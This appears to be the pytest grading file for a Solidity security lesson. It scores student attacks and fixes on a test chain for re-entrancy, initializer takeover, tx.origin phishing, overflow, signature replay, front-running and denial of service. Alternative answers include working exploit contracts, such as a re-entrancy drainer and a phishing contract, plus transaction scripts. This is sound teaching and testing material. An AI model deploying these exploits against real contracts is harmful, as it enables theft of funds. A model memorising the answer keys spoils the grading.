"""Lesson 11's checks. For each level: the reference attack wins it; the reference fix makes the
same attack fail and still serves honest users; a do-nothing attacker scores 0. Differently
written answers earn full marks, each typical mistake loses exactly its own checks, and stubs
and wrong types score 0 without raising."""

from __future__ import annotations

import pytest
from lessonkit import HEADER, compiled, from_file, no_crash, outcome, solidity, stub, variant

from sollab.grading import Unfinished
from sollab.levels import get_level

LESSON = "11-security"
ETHER = 10**18
DEAD = "0x000000000000000000000000000000000000dEaD"


def ex(name: str) -> str:
    return f"{LESSON}/{name}"


def level(name: str):
    return get_level(ex(name))


def unfixed(given: str, fixed: str):
    """The level's vulnerable contract submitted as the fix, under the fix's name."""
    return compiled(solidity("contracts", LESSON, given).replace(given, fixed), fixed)


# --- the levels themselves ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "reentrancy",
        "initializer",
        "phishing",
        "overflow",
        "unchecked-return",
        "denial-of-service",
        "signature-replay",
        "front-running",
    ],
)
def test_the_levels_reference_attack_wins_and_a_fresh_level_is_not_won(name, module_chain):
    with module_chain.anchor():
        assert level(name).play(chain=module_chain).won
    with module_chain.anchor():
        assert not level(name).new(module_chain).validate().won


FIXES = [
    ("reentrancy", "FixedVault"),
    ("initializer", "FixedTreasury"),
    ("phishing", "FixedWallet"),
    ("overflow", "FixedToken"),
    ("unchecked-return", "FixedVendor"),
    ("denial-of-service", "FixedKing"),
    ("signature-replay", "FixedBank"),
    ("front-running", "FixedBounty"),
]


@pytest.mark.parametrize(("name", "fix"), FIXES)
def test_the_reference_fix_makes_the_levels_attack_fail(name, fix, module_chain):
    with module_chain.anchor():
        verdict = level(name).play(chain=module_chain, contract=from_file("solutions", LESSON, fix))
    assert not verdict.won, verdict


def test_the_vulnerable_token_really_is_compiled_with_solc_0_7_6():
    assert level("overflow").vulnerable().solc_version.startswith("0.7.6")


# --- re-entrancy ------------------------------------------------------------------------------

ATTACKER_OTHER = (
    HEADER
    + """
/// Written another way: a fallback instead of receive, a low-level call, a loop guard.
contract VaultAttacker {
    address vault;
    address owner;
    bool busy;
    constructor(address target) { vault = target; owner = msg.sender; }
    function attack() external payable {
        (bool ok, ) = vault.call{value: msg.value}(abi.encodeWithSignature("deposit()"));
        require(ok);
        busy = true;
        (ok, ) = vault.call(abi.encodeWithSignature("withdraw()"));
        require(ok);
        busy = false;
        payable(owner).transfer(address(this).balance);
    }
    fallback() external payable {
        if (busy && vault.balance >= msg.value) {
            (bool ok, ) = vault.call(abi.encodeWithSignature("withdraw()"));
            require(ok);
        }
    }
}
"""
)

DO_NOTHING_ATTACKER = (
    HEADER
    + """
contract VaultAttacker {
    constructor(address) {}
    function attack() external payable {}
}
"""
)


@pytest.fixture(scope="module")
def attackers():
    return {
        "reference": from_file("solutions", LESSON, "VaultAttacker"),
        "other": compiled(ATTACKER_OTHER, "VaultAttacker"),
        "do-nothing": compiled(DO_NOTHING_ATTACKER, "VaultAttacker"),
        "keeps-loot": variant(
            LESSON,
            "VaultAttacker",
            '        (bool ok, ) = _player.call{value: address(this).balance}("");\n'
            '        require(ok, "could not pay the player");\n',
            "",
        ),
        "ten-rounds": variant(
            LESSON,
            "VaultAttacker",
            "        if (address(_vault).balance >= _stake) {",
            "        if (_rounds < 10) {\n            _rounds += 1;",
            "    uint256 private _stake;",
            "    uint256 private _stake;\n    uint256 private _rounds;",
        ),
    }


REENTRANCY_ATTACK = ex("reentrancy-attack")


def test_the_reference_attacker_and_another_written_differently_earn_full_marks(
    attackers, module_chain
):
    assert outcome(REENTRANCY_ATTACK, attackers["reference"], module_chain) == (4, [])
    assert outcome(REENTRANCY_ATTACK, attackers["other"], module_chain) == (4, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "keeps-loot",
            2,
            [
                "the stolen Ether ends in your own account",
                "it empties a vault holding another amount",
            ],
        ),
        ("ten-rounds", 3, ["it empties a vault holding another amount"]),
    ],
)
def test_each_reentrancy_attack_mistake_loses_only_its_checks(
    attackers, module_chain, mistake, points, lost
):
    assert outcome(REENTRANCY_ATTACK, attackers[mistake], module_chain) == (points, lost)


def test_a_do_nothing_attacker_scores_zero(attackers, module_chain):
    result = no_crash(REENTRANCY_ATTACK, attackers["do-nothing"], module_chain)
    assert "to hold 0 wei after your attack; got 10 ether (hint" in result.results[0].message


FIXED_VAULT_OZ = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";

/// Written another way: OpenZeppelin's lock, the payment still before the effect.
contract FixedVault is ReentrancyGuard {
    mapping(address => uint256) public balanceOf;
    function deposit() external payable { balanceOf[msg.sender] += msg.value; }
    function withdraw() external nonReentrant {
        uint256 amount = balanceOf[msg.sender];
        require(amount > 0, "nothing to withdraw");
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "payment failed");
        balanceOf[msg.sender] = 0;
    }
}
"""


@pytest.fixture(scope="module")
def vaults():
    return {
        "reference": from_file("solutions", LESSON, "FixedVault"),
        "openzeppelin": compiled(FIXED_VAULT_OZ, "FixedVault"),
        "unfixed": unfixed("Vault", "FixedVault"),
        "transfer": variant(
            LESSON,
            "FixedVault",
            '        (bool ok, ) = msg.sender.call{value: amount}("");\n'
            "        if (!ok) revert PaymentFailed(msg.sender, amount);",
            "        payable(msg.sender).transfer(amount);",
        ),
        "pays-nobody": variant(
            LESSON,
            "FixedVault",
            '        (bool ok, ) = msg.sender.call{value: amount}("");\n'
            "        if (!ok) revert PaymentFailed(msg.sender, amount);",
            "",
        ),
    }


REENTRANCY_FIX = ex("reentrancy-fix")


def test_the_reference_fix_and_openzeppelins_guard_earn_full_marks(vaults, module_chain):
    assert outcome(REENTRANCY_FIX, vaults["reference"], module_chain) == (6, [])
    assert outcome(REENTRANCY_FIX, vaults["openzeppelin"], module_chain) == (6, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        ("unfixed", 3, ["the re-entrancy attack fails and every depositor is still paid"]),
        ("transfer", 5, ["a smart-contract wallet can still withdraw"]),
        (
            "pays-nobody",
            0,
            [
                "depositors get back exactly what they put in",
                "the re-entrancy attack fails and every depositor is still paid",
                "a smart-contract wallet can still withdraw",
            ],
        ),
    ],
)
def test_each_reentrancy_fix_mistake_loses_only_its_checks(
    vaults, module_chain, mistake, points, lost
):
    assert outcome(REENTRANCY_FIX, vaults[mistake], module_chain) == (points, lost)


# --- the unprotected initializer --------------------------------------------------------------


def take_over(treasury, player):
    """Written another way: the amount read from nowhere but the lesson, raw calldata for pay."""
    from eth_abi import encode
    from eth_utils import keccak

    pay = keccak(text="pay(address,uint256)")[:4] + encode(["address", "uint256"], [player, 10**19])
    return [
        {"to": treasury, "function": "initialize", "args": [player], "value": 0},
        {"to": treasury, "data": "0x" + pay.hex()},
    ]


def only_initialize(treasury, player):
    return [{"to": treasury, "function": "initialize", "args": [player]}]


def hard_coded_bob(treasury, player):
    bob = "0x2B5AD5c4795c026514f8317c7a215E218DcCD6cF"
    return [
        {"to": treasury, "function": "initialize", "args": [bob]},
        {"to": treasury, "function": "pay", "args": [bob, 10 * ETHER]},
    ]


def nothing(target, player):
    return []


def not_a_list(target, player):
    return {"to": target, "function": "initialize", "args": [player]}


INITIALIZER_ATTACK, INITIALIZER_FIX = ex("initializer-attack"), ex("initializer-fix")


def test_initializer_attacks_reference_and_raw_calldata_earn_full_marks(module_chain):
    reference = level("initializer").reference()
    assert outcome(INITIALIZER_ATTACK, reference, module_chain) == (4, [])
    assert outcome(INITIALIZER_ATTACK, take_over, module_chain) == (4, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            only_initialize,
            2,
            [
                "the treasury's 10 ether are in your account",
                "it takes over a treasury for another player",
            ],
        ),
        (hard_coded_bob, 3, ["it takes over a treasury for another player"]),
    ],
)
def test_each_initializer_attack_mistake_loses_only_its_checks(module_chain, mistake, points, lost):
    assert outcome(INITIALIZER_ATTACK, mistake, module_chain) == (points, lost)


@pytest.mark.parametrize("answer", [nothing, stub, not_a_list, 42])
def test_a_do_nothing_or_malformed_initializer_attack_scores_zero(module_chain, answer):
    no_crash(INITIALIZER_ATTACK, answer, module_chain)


TREASURY_OZ = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";

/// Written another way: OpenZeppelin's Initializable.
contract FixedTreasury is Initializable {
    address public owner;
    function initialize(address newOwner) external initializer { owner = newOwner; }
    receive() external payable {}
    function pay(address payable to, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        to.transfer(amount);
    }
}
"""


@pytest.fixture(scope="module")
def treasuries():
    return {
        "reference": from_file("solutions", LESSON, "FixedTreasury"),
        "openzeppelin": compiled(TREASURY_OZ, "FixedTreasury"),
        "unfixed": unfixed("Treasury", "FixedTreasury"),
        "owner-may-reinitialize": variant(
            LESSON,
            "FixedTreasury",
            "        if (_initialized) revert AlreadyInitialized();",
            "        if (_initialized && msg.sender != owner) revert AlreadyInitialized();",
        ),
        "constructor-only": variant(
            LESSON,
            "FixedTreasury",
            "    function initialize(address newOwner) external {",
            "    constructor() { owner = msg.sender; _initialized = true; }\n"
            "    function initialise(address newOwner) external {",
        ),
    }


def test_initializer_fixes_reference_and_openzeppelins_earn_full_marks(treasuries, module_chain):
    assert outcome(INITIALIZER_FIX, treasuries["reference"], module_chain) == (6, [])
    assert outcome(INITIALIZER_FIX, treasuries["openzeppelin"], module_chain) == (6, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "unfixed",
            3,
            [
                "the take-over fails: alice keeps the treasury and its Ether",
                "initialize() is refused a second time, even to the owner",
            ],
        ),
        ("owner-may-reinitialize", 5, ["initialize() is refused a second time, even to the owner"]),
    ],
)
def test_each_initializer_fix_mistake_loses_only_its_checks(
    treasuries, module_chain, mistake, points, lost
):
    assert outcome(INITIALIZER_FIX, treasuries[mistake], module_chain) == (points, lost)


def test_a_fix_without_initialize_scores_zero_and_says_the_level_could_not_be_set_up(
    treasuries, module_chain
):
    result = no_crash(INITIALIZER_FIX, treasuries["constructor-only"], module_chain)
    assert "the level to set up with your FixedTreasury" in result.results[0].message
    assert "no function 'initialize'" in result.results[0].message


# --- tx.origin phishing -----------------------------------------------------------------------

PHISHER_OTHER = (
    HEADER
    + """
/// Written another way: the wallet's function called by its selector, the loot sent onwards.
contract Phisher {
    address wallet;
    address me;
    constructor(address target) { wallet = target; me = msg.sender; }
    receive() external payable {
        (bool ok, ) = wallet.call(
            abi.encodeWithSignature("transfer(address,uint256)", address(this), wallet.balance));
        require(ok, "the wallet refused");
    }
    fallback() external payable {}
    function collect() external {}
}
"""
)

DO_NOTHING_PHISHER = HEADER + "contract Phisher {\n    receive() external payable {}\n}\n"


@pytest.fixture(scope="module")
def phishers():
    return {
        "reference": from_file("solutions", LESSON, "Phisher"),
        "do-nothing": compiled(DO_NOTHING_PHISHER, "Phisher"),
        "to-origin": variant(
            LESSON, "Phisher", "_wallet.transfer(_player,", "_wallet.transfer(payable(tx.origin),"
        ),
        "ten-ether": variant(LESSON, "Phisher", "address(_wallet).balance);", "10 ether);"),
    }


PHISHING_ATTACK, PHISHING_FIX = ex("phishing-attack"), ex("phishing-fix")


def test_the_reference_phisher_earns_full_marks(phishers, module_chain):
    assert outcome(PHISHING_ATTACK, phishers["reference"], module_chain) == (4, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "to-origin",
            2,
            ["the Ether ends in your own account", "it empties a wallet holding another amount"],
        ),
        ("ten-ether", 3, ["it empties a wallet holding another amount"]),
    ],
)
def test_each_phishing_mistake_loses_only_its_checks(phishers, module_chain, mistake, points, lost):
    assert outcome(PHISHING_ATTACK, phishers[mistake], module_chain) == (points, lost)


def test_a_do_nothing_phisher_scores_zero(phishers, module_chain):
    no_crash(PHISHING_ATTACK, phishers["do-nothing"], module_chain)


@pytest.fixture(scope="module")
def wallets():
    return {
        "reference": from_file("solutions", LESSON, "FixedWallet"),
        "both": variant(
            LESSON,
            "FixedWallet",
            "if (msg.sender != owner) revert NotOwner(msg.sender);",
            "if (msg.sender != owner || tx.origin != owner) revert NotOwner(msg.sender);",
        ),
        "either": variant(
            LESSON,
            "FixedWallet",
            "if (msg.sender != owner) revert NotOwner(msg.sender);",
            "if (msg.sender != owner && tx.origin != owner) revert NotOwner(msg.sender);",
        ),
        "unfixed": unfixed("Wallet", "FixedWallet"),
        "pays-nobody": variant(
            LESSON,
            "FixedWallet",
            '        (bool ok, ) = to.call{value: amount}("");\n'
            "        if (!ok) revert PaymentFailed(to, amount);\n",
            "",
        ),
    }


def test_phishing_fixes_reference_and_a_stricter_one_earn_full_marks(wallets, module_chain):
    assert outcome(PHISHING_FIX, wallets["reference"], module_chain) == (5, [])
    assert outcome(PHISHING_FIX, wallets["both"], module_chain) == (5, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        ("unfixed", 3, ["the phishing contract gets nothing from alice's tip"]),
        ("either", 3, ["the phishing contract gets nothing from alice's tip"]),
        (
            "pays-nobody",
            1,
            [
                "the owner can send Ether out of the wallet",
                "the phishing contract gets nothing from alice's tip",
            ],
        ),
    ],
)
def test_each_phishing_fix_mistake_loses_only_its_checks(
    wallets, module_chain, mistake, points, lost
):
    assert outcome(PHISHING_FIX, wallets[mistake], module_chain) == (points, lost)


# --- overflow under solc 0.7.6 ----------------------------------------------------------------


def overflow_other(token, player):
    """Written another way: two transfers, the second one wrapping round."""
    return [
        {"to": token, "function": "transfer", "args": [DEAD, 20]},
        {"to": token, "function": "transfer", "args": [DEAD, 1]},
    ]


def to_self(token, player):
    return [{"to": token, "function": "transfer", "args": [player, 21]}]


OVERFLOW_ATTACK, OVERFLOW_FIX = ex("overflow-attack"), ex("overflow-fix")


def test_overflow_attacks_reference_and_another_earn_full_marks(module_chain):
    assert outcome(OVERFLOW_ATTACK, level("overflow").reference(), module_chain) == (3, [])
    assert outcome(OVERFLOW_ATTACK, overflow_other, module_chain) == (3, [])


@pytest.mark.parametrize("answer", [nothing, to_self, stub, not_a_list, "transfer"])
def test_a_do_nothing_self_cancelling_or_malformed_overflow_attack_scores_zero(
    module_chain, answer
):
    no_crash(OVERFLOW_ATTACK, answer, module_chain)


TOKEN_08 = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// Written another way: compiled with solc 0.8, whose checked arithmetic refuses the underflow.
contract FixedToken {
    mapping(address => uint256) public balanceOf;
    uint256 public totalSupply;
    constructor(uint256 supply) { balanceOf[msg.sender] = totalSupply = supply; }
    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }
}
"""


@pytest.fixture(scope="module")
def tokens():
    return {
        "reference": from_file("solutions", LESSON, "FixedToken"),
        "solc-0.8": compiled(TOKEN_08, "FixedToken"),
        "unfixed": unfixed("Token", "FixedToken"),
        "returns-false": variant(
            LESSON,
            "FixedToken",
            '        require(balanceOf[msg.sender] >= value, "not enough tokens");',
            "        if (balanceOf[msg.sender] < value) return false;",
        ),
        "moves-nothing": variant(
            LESSON,
            "FixedToken",
            "        balanceOf[msg.sender] -= value;\n        balanceOf[to] += value;\n",
            "",
        ),
    }


def test_overflow_fixes_in_0_7_6_in_0_8_and_by_returning_false_earn_full_marks(
    tokens, module_chain
):
    assert tokens["solc-0.8"].solc_version.startswith("0.8")
    for name in ("reference", "solc-0.8", "returns-false"):
        assert outcome(OVERFLOW_FIX, tokens[name], module_chain) == (6, []), name


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "unfixed",
            2,
            [
                "spending more than you hold is refused",
                "the overflow attack fails",
                "a run of transfers leaves the balances a ledger would",
            ],
        ),
        (
            "moves-nothing",
            0,
            [
                "transfers move tokens and keep the total",
                "spending more than you hold is refused",
                "the overflow attack fails",
                "a run of transfers leaves the balances a ledger would",
            ],
        ),
    ],
)
def test_each_overflow_fix_mistake_loses_only_its_checks(
    tokens, module_chain, mistake, points, lost
):
    assert outcome(OVERFLOW_FIX, tokens[mistake], module_chain) == (points, lost)


# --- an unchecked return value -----------------------------------------------------------------


def sell_twice(vendor, player):
    """Written another way: two sales of 5 ether."""
    return [{"to": vendor, "function": "sell", "args": [5 * ETHER]} for _ in range(2)]


def sell_too_much(vendor, player):
    return [{"to": vendor, "function": "sell", "args": [11 * ETHER]}]


UNCHECKED_ATTACK, UNCHECKED_FIX = ex("unchecked-return-attack"), ex("unchecked-return-fix")


def test_unchecked_return_attacks_reference_and_another_earn_full_marks(module_chain):
    reference = level("unchecked-return").reference()
    assert outcome(UNCHECKED_ATTACK, reference, module_chain) == (3, [])
    assert outcome(UNCHECKED_ATTACK, sell_twice, module_chain) == (3, [])


@pytest.mark.parametrize("answer", [nothing, sell_too_much, stub, not_a_list])
def test_a_do_nothing_greedy_or_malformed_unchecked_attack_scores_zero(module_chain, answer):
    no_crash(UNCHECKED_ATTACK, answer, module_chain)


VENDOR_OZ = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// Written another way: OpenZeppelin's SafeERC20, and Address.sendValue for the payment.
contract FixedVendor {
    using SafeERC20 for IERC20;
    IERC20 public immutable token;
    constructor(address sold) { token = IERC20(sold); }
    receive() external payable {}
    function sell(uint256 amount) external {
        token.safeTransferFrom(msg.sender, address(this), amount);
        payable(msg.sender).transfer(amount);
    }
}
"""


@pytest.fixture(scope="module")
def vendors():
    return {
        "reference": from_file("solutions", LESSON, "FixedVendor"),
        "openzeppelin": compiled(VENDOR_OZ, "FixedVendor"),
        "unfixed": compiled(
            solidity("contracts", LESSON, "Vendor").replace(
                "contract Vendor", "contract FixedVendor"
            ),
            "FixedVendor",
        ),
        "pays-nobody": variant(
            LESSON,
            "FixedVendor",
            '        (bool ok, ) = msg.sender.call{value: amount}("");\n'
            "        if (!ok) revert PaymentFailed(msg.sender, amount);\n",
            "",
        ),
    }


def test_unchecked_return_fixes_reference_and_safeerc20_earn_full_marks(vendors, module_chain):
    assert outcome(UNCHECKED_FIX, vendors["reference"], module_chain) == (5, [])
    assert outcome(UNCHECKED_FIX, vendors["openzeppelin"], module_chain) == (5, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "unfixed",
            2,
            [
                "the attack fails and honest sellers are still paid",
                "a sale beyond the seller's allowance is refused",
            ],
        ),
        (
            "pays-nobody",
            1,
            [
                "a seller with approved tokens is paid, and the vendor gets them",
                "the attack fails and honest sellers are still paid",
            ],
        ),
    ],
)
def test_each_unchecked_return_fix_mistake_loses_only_its_checks(
    vendors, module_chain, mistake, points, lost
):
    assert outcome(UNCHECKED_FIX, vendors[mistake], module_chain) == (points, lost)


# --- denial of service by revert -------------------------------------------------------------

USURPER_OTHER = (
    HEADER
    + """
/// Written another way: a low-level call, and a fallback that reverts on purpose.
contract Usurper {
    address throne;
    constructor(address king) { throne = king; }
    function attack() external payable {
        (bool ok, ) = throne.call{value: msg.value}(abi.encodeWithSignature("claim()"));
        require(ok, "the claim failed");
    }
    fallback() external payable { revert("this king keeps his crown"); }
}
"""
)

USURPER_PAID = (
    HEADER
    + """
interface IKing { function claim() external payable; }
/// A usurper that can be paid, so it can be dethroned.
contract Usurper {
    IKing throne;
    constructor(IKing king) { throne = king; }
    function attack() external payable { throne.claim{value: msg.value}(); }
    receive() external payable {}
}
"""
)

USURPER_IDLE = HEADER + (
    "contract Usurper {\n"
    "    constructor(address) {}\n"
    "    function attack() external payable {}\n"
    "}\n"
)

DOS_ATTACK, DOS_FIX = ex("denial-of-service-attack"), ex("denial-of-service-fix")


@pytest.fixture(scope="module")
def usurpers():
    return {
        "reference": from_file("solutions", LESSON, "Usurper"),
        "other": compiled(USURPER_OTHER, "Usurper"),
        "accepts-ether": compiled(USURPER_PAID, "Usurper"),
        "do-nothing": compiled(USURPER_IDLE, "Usurper"),
    }


def test_denial_of_service_attacks_reference_and_another_earn_full_marks(usurpers, module_chain):
    assert outcome(DOS_ATTACK, usurpers["reference"], module_chain) == (3, [])
    assert outcome(DOS_ATTACK, usurpers["other"], module_chain) == (3, [])


def test_a_usurper_that_accepts_ether_takes_the_crown_but_loses_the_level(usurpers, module_chain):
    assert outcome(DOS_ATTACK, usurpers["accepts-ether"], module_chain) == (
        1,
        ["nobody can take the crown after you"],
    )


def test_a_do_nothing_usurper_scores_zero(usurpers, module_chain):
    no_crash(DOS_ATTACK, usurpers["do-nothing"], module_chain)


KING_OTHER = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// Written another way: the refund kept per king and sent on request, with require strings.
contract FixedKing {
    address public king;
    uint256 public prize;
    mapping(address => uint256) private _refunds;
    constructor() payable { king = msg.sender; prize = msg.value; }
    function claim() external payable {
        require(msg.value > prize, "pay more than the prize");
        _refunds[king] += msg.value;
        (king, prize) = (msg.sender, msg.value);
    }
    function withdraw() external {
        uint256 amount = _refunds[msg.sender];
        delete _refunds[msg.sender];
        payable(msg.sender).transfer(amount);
    }
}
"""


@pytest.fixture(scope="module")
def kings():
    return {
        "reference": from_file("solutions", LESSON, "FixedKing"),
        "other": compiled(KING_OTHER, "FixedKing"),
        "unfixed": unfixed("King", "FixedKing"),
        "crowns-nobody": variant(
            LESSON,
            "FixedKing",
            "        king = msg.sender;\n        prize = msg.value;\n        emit",
            "        emit",
        ),
    }


def test_denial_of_service_fixes_reference_and_another_earn_full_marks(kings, module_chain):
    assert outcome(DOS_FIX, kings["reference"], module_chain) == (5, [])
    assert outcome(DOS_FIX, kings["other"], module_chain) == (5, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "unfixed",
            2,
            [
                "a dethroned king withdraws what the next king paid",
                "a contract that refuses Ether cannot freeze the throne",
            ],
        ),
        (
            "crowns-nobody",
            0,
            [
                "a bigger claim crowns the claimant",
                "a claim of no more than the prize is refused",
                "a dethroned king withdraws what the next king paid",
                "a contract that refuses Ether cannot freeze the throne",
            ],
        ),
    ],
)
def test_each_denial_of_service_fix_mistake_loses_only_its_checks(
    kings, module_chain, mistake, points, lost
):
    assert outcome(DOS_FIX, kings[mistake], module_chain) == (points, lost)


# --- signature replay --------------------------------------------------------------------------


def replay_in_a_loop(bank, player, voucher):
    """Written another way: a while loop, keyword-free args built from the voucher."""
    txs, paid = [], 0
    while paid + voucher["amount"] <= 10 * ETHER:
        args = [voucher[k] for k in ("to", "amount", "nonce", "signature")]
        txs.append({"to": bank, "function": "redeem", "args": args, "value": 0})
        paid += voucher["amount"]
    return txs


def replay_ten_times(bank, player, voucher):
    args = [voucher[k] for k in ("to", "amount", "nonce", "signature")]
    return [{"to": bank, "function": "redeem", "args": args}] * 10


def redeem_once(bank, player, voucher):
    args = [voucher[k] for k in ("to", "amount", "nonce", "signature")]
    return [{"to": bank, "function": "redeem", "args": args}]


def new_nonces(bank, player, voucher):
    """A forger: the same signature with other nonces (the bank refuses them)."""
    return [
        {"to": bank, "function": "redeem", "args": [player, ETHER, n, voucher["signature"]]}
        for n in range(1, 11)
    ]


REPLAY_ATTACK, REPLAY_FIX = ex("signature-replay-attack"), ex("signature-replay-fix")


def test_replay_attacks_reference_and_another_earn_full_marks(module_chain):
    reference = level("signature-replay").reference()
    assert outcome(REPLAY_ATTACK, reference, module_chain) == (3, [])
    assert outcome(REPLAY_ATTACK, replay_in_a_loop, module_chain) == (3, [])


def test_ten_replays_of_a_two_ether_voucher_still_win_what_ran_before_the_revert_stays(
    module_chain,
):
    assert outcome(REPLAY_ATTACK, replay_ten_times, module_chain) == (3, [])


@pytest.mark.parametrize("answer", [nothing, redeem_once, new_nonces, stub, not_a_list])
def test_a_do_nothing_honest_forging_or_malformed_replay_scores_zero(module_chain, answer):
    no_crash(REPLAY_ATTACK, answer, module_chain)


BANK_OZ = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
import {MessageHashUtils} from "@openzeppelin/contracts/utils/cryptography/MessageHashUtils.sol";

/// Written another way: OpenZeppelin's ECDSA (which refuses a signature's twin), vouchers
/// remembered by their signature.
contract FixedBank {
    address public immutable signer;
    mapping(bytes32 => bool) private _spent;
    constructor() { signer = msg.sender; }
    receive() external payable {}
    function voucherHash(address to, uint256 amount, uint256 nonce) public view returns (bytes32) {
        return keccak256(abi.encodePacked(address(this), to, amount, nonce));
    }
    function redeem(address payable to, uint256 amount, uint256 nonce, bytes calldata sig)
        external
    {
        bytes32 digest = MessageHashUtils.toEthSignedMessageHash(voucherHash(to, amount, nonce));
        require(ECDSA.recover(digest, sig) == signer, "not signed by the signer");
        require(!_spent[keccak256(sig)], "already redeemed");
        _spent[keccak256(sig)] = true;
        to.transfer(amount);
    }
}
"""


@pytest.fixture(scope="module")
def banks():
    return {
        "reference": from_file("solutions", LESSON, "FixedBank"),
        "openzeppelin": compiled(BANK_OZ, "FixedBank"),
        "unfixed": unfixed("VoucherBank", "FixedBank"),
        "keyed-by-signature": variant(
            LESSON,
            "FixedBank",
            "mapping(uint256 => bool) public used;",
            "mapping(bytes32 => bool) public used;",
            "if (used[nonce]) revert",
            "if (used[keccak256(signature)]) revert",
            "used[nonce] = true;",
            "used[keccak256(signature)] = true;",
        ),
        "pays-nobody": variant(
            LESSON,
            "FixedBank",
            '        (bool ok, ) = to.call{value: amount}("");\n'
            "        if (!ok) revert PaymentFailed(to, amount);\n",
            "",
        ),
    }


def test_replay_fixes_reference_and_openzeppelins_ecdsa_earn_full_marks(banks, module_chain):
    assert outcome(REPLAY_FIX, banks["reference"], module_chain) == (6, [])
    assert outcome(REPLAY_FIX, banks["openzeppelin"], module_chain) == (6, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "unfixed",
            3,
            [
                "the replay fails: the voucher pays once and the bank keeps the rest",
                "the signature's twin cannot be redeemed again",
            ],
        ),
        ("keyed-by-signature", 5, ["the signature's twin cannot be redeemed again"]),
        (
            "pays-nobody",
            2,
            [
                "a voucher the signer signed pays once",
                "the replay fails: the voucher pays once and the bank keeps the rest",
            ],
        ),
    ],
)
def test_each_replay_fix_mistake_loses_only_its_checks(banks, module_chain, mistake, points, lost):
    assert outcome(REPLAY_FIX, banks[mistake], module_chain) == (points, lost)


# --- front-running ---------------------------------------------------------------------------


def front_run_decoded(bounty, player, pending):
    """Written another way: decode alice's answer from her calldata and call solve() by name."""
    from eth_abi import decode

    data = bytes.fromhex(pending["data"][2:])
    if data[:4].hex() != "76fe1e92":  # solve(string): nothing to steal in anything else
        return []
    (answer,) = decode(["string"], data[4:])
    return [{"to": bounty, "function": "solve", "args": [answer]}]


def guess(bounty, player, pending):
    return [{"to": bounty, "function": "solve", "args": ["hunter2"]}]


FRONT_ATTACK, FRONT_FIX = ex("front-running-attack"), ex("front-running-fix")


def test_the_solve_selector_in_the_decoding_answer_is_right():
    from eth_utils import keccak

    assert keccak(text="solve(string)")[:4].hex() == "76fe1e92"


def test_front_running_attacks_reference_and_a_decoding_one_earn_full_marks(module_chain):
    assert outcome(FRONT_ATTACK, level("front-running").reference(), module_chain) == (3, [])
    assert outcome(FRONT_ATTACK, front_run_decoded, module_chain) == (3, [])


@pytest.mark.parametrize("answer", [nothing, guess, stub, not_a_list])
def test_a_do_nothing_guessing_or_malformed_front_run_scores_zero(module_chain, answer):
    no_crash(FRONT_ATTACK, answer, module_chain)


@pytest.fixture(scope="module")
def bounties():
    return {
        "reference": from_file("solutions", LESSON, "FixedBounty"),
        "unfixed": unfixed("Bounty", "FixedBounty"),
        "commit-not-checked": variant(
            LESSON,
            "FixedBounty",
            "revert NotCommitted(msg.sender);",
            "// the commitment is looked at, and then ignored",
        ),
        "pays-twice": variant(
            LESSON,
            "FixedBounty",
            "        if (winner != address(0)) revert AlreadySolved(winner);\n",
            "",
        ),
    }


def test_the_commit_reveal_fix_earns_full_marks(bounties, module_chain):
    assert outcome(FRONT_FIX, bounties["reference"], module_chain) == (6, [])


@pytest.mark.parametrize(
    ("mistake", "points", "lost"),
    [
        (
            "commit-not-checked",
            3,
            [
                "a wrong answer, or a reveal without a commitment, is refused",
                "the front-runner gets nothing: alice is paid",
            ],
        ),
        ("pays-twice", 5, ["once someone has won, later reveals are refused"]),
    ],
)
def test_each_front_running_fix_mistake_loses_only_its_checks(
    bounties, module_chain, mistake, points, lost
):
    assert outcome(FRONT_FIX, bounties[mistake], module_chain) == (points, lost)


def test_the_unfixed_bounty_scores_zero_and_says_commit_failed(bounties, module_chain):
    result = no_crash(FRONT_FIX, bounties["unfixed"], module_chain)
    assert "carol's commit(commitment of 'correct horse battery staple') to succeed" in (
        result.results[0].message
    )


# --- stubs and wrong answers ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("exercise_id", "name"),
    [
        (REENTRANCY_ATTACK, "VaultAttacker"),
        (REENTRANCY_FIX, "FixedVault"),
        (INITIALIZER_FIX, "FixedTreasury"),
        (PHISHING_ATTACK, "Phisher"),
        (PHISHING_FIX, "FixedWallet"),
        (OVERFLOW_FIX, "FixedToken"),
        (UNCHECKED_FIX, "FixedVendor"),
        (DOS_ATTACK, "Usurper"),
        (DOS_FIX, "FixedKing"),
        (REPLAY_FIX, "FixedBank"),
        (FRONT_FIX, "FixedBounty"),
    ],
)
def test_the_released_stub_and_a_wrong_type_score_zero_without_raising(
    exercise_id, name, module_chain
):
    for answer in (Unfinished(name, "the cell has `// YOUR CODE HERE`"), 42, None):
        no_crash(exercise_id, answer, module_chain)
